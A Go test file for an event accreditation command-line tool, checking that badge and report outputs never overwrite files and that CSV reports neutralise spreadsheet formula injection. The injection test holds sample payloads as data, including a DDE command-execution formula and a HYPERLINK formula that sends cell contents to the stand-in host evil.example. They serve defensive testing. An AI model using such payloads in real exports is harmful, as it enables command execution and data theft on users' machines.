package cli

import (
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"accred/data"
	"accred/data/atomicfile/atomicfiletest"
	"accred/data/pgtest"
)

// printedCount is how many badges the database holds as printed.
func printedCount(t *testing.T, db string) int {
	t.Helper()
	_, stats, _ := run(t, db, "stats")
	for _, line := range strings.Split(stats, "\n") {
		var n int
		if _, err := fmt.Sscanf(line, "printed\t%d", &n); err == nil {
			return n
		}
	}
	t.Fatalf("no printed count in %q", stats)
	return 0
}

func TestBadgesNeverOverwriteAFile(t *testing.T) {
	dir := t.TempDir()
	db := pgtest.EventDB(t)
	run(t, db, "demo", "--participants", "40")
	out := filepath.Join(dir, "badges.pdf")
	if code, _, errs := run(t, db, "badges", "--out", out); code != 0 {
		t.Fatal(errs)
	}
	first, _ := os.ReadFile(out)
	printed := printedCount(t, db)
	// A second run to the same name: a reprinted badge waits again.
	s, _ := data.Open(db)
	list, _, _ := s.FindParticipants(ctx, data.ParticipantFilter{Query: ""})
	s.Reprint(ctx, list[0].ID, "lost")
	s.Close()
	code, _, errs := run(t, db, "badges", "--out", out)
	if code != 1 || !strings.Contains(errs, out+" already exists") || !strings.Contains(errs, "badges (2).pdf") {
		t.Fatalf("second run to the same file: %d %q", code, errs)
	}
	if again, _ := os.ReadFile(out); string(again) != string(first) {
		t.Fatal("the printed badges' file was changed")
	}
	if n := printedCount(t, db); n != printed-1 {
		t.Fatalf("%d printed after a refused run, want %d", n, printed-1)
	}
	if code, _, errs := run(t, db, "badges", "--out", filepath.Join(dir, "badges (2).pdf")); code != 0 {
		t.Fatalf("the proposed name: %q", errs)
	}
}

func TestReportsNeutraliseFormulasAndStayPrivate(t *testing.T) {
	dir := t.TempDir()
	db := pgtest.EventDB(t)
	run(t, db, "demo", "--participants", "20")
	titles := []string{"=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example/?"&A1,"Minutes")`, "+1 Side event", "-Press", "@Lunch"}
	programme := [][]string{{"code", "title", "kind", "room", "starts_at", "ends_at"}}
	for i, title := range titles {
		programme = append(programme, []string{fmt.Sprintf("X-%d", i), title, "meeting", "Room 1", "2025-10-26 15:00", "2025-10-26 16:00"})
	}
	sessions := filepath.Join(dir, "programme.csv")
	f, _ := os.Create(sessions)
	csv.NewWriter(f).WriteAll(programme)
	f.Close()
	if code, _, errs := run(t, db, "sessions", "import", sessions); code != 0 {
		t.Fatal(errs)
	}
	reportFile := filepath.Join(dir, "reports", "attendance.csv")
	os.Mkdir(filepath.Dir(reportFile), 0o700)
	check := atomicfiletest.OwnerOnlyFromCreation(t, filepath.Dir(reportFile))
	_, stdout, _ := run(t, db, "report", "attendance")
	if code, _, errs := run(t, db, "report", "attendance", "--out", reportFile); code != 0 {
		t.Fatal(errs)
	}
	if code, _, errs := run(t, db, "report", "attendance", "--format", "xlsx", "--out", reportFile+".xlsx"); code != 0 {
		t.Fatal(errs)
	}
	check()
	written, _ := os.ReadFile(reportFile)
	if string(written) != stdout {
		t.Fatal("the file and standard output differ")
	}
	r := csv.NewReader(strings.NewReader(stdout))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a spreadsheet would run %q", cell)
			}
		}
		for _, title := range titles {
			if rec[1] == "'"+title {
				found++
			}
		}
	}
	if found != len(titles) {
		t.Fatalf("%d of %d titles written neutralised:\n%s", found, len(titles), stdout)
	}
	if code, _, errs := run(t, db, "report", "attendance", "--out", reportFile); code != 1 || !strings.Contains(errs, "already exists") {
		t.Fatalf("report over a file: %d %q", code, errs)
	}
}

func TestSplitRunRefusedWhenAPartExists(t *testing.T) {
	dir := t.TempDir()
	db := pgtest.EventDB(t)
	run(t, db, "demo", "--participants", "5600")
	run(t, db, "settings", "nominations_required", "no")
	run(t, db, "approve", "--all") // more than 5,000 badges to print
	before := printedCount(t, db)
	os.WriteFile(filepath.Join(dir, "run-2.pdf"), []byte("5,000 printed badges"), 0o600)
	code, _, errs := run(t, db, "badges", "--out", filepath.Join(dir, "run.pdf"))
	if code != 1 || !strings.Contains(errs, "run-2.pdf already exists") || !strings.Contains(errs, "run (2).pdf") {
		t.Fatalf("a split run over an existing part: %d %q", code, errs)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Fatalf("the refused run wrote %v", entries)
	}
	if printedCount(t, db) != before {
		t.Fatal("a refused run marked badges printed")
	}
}
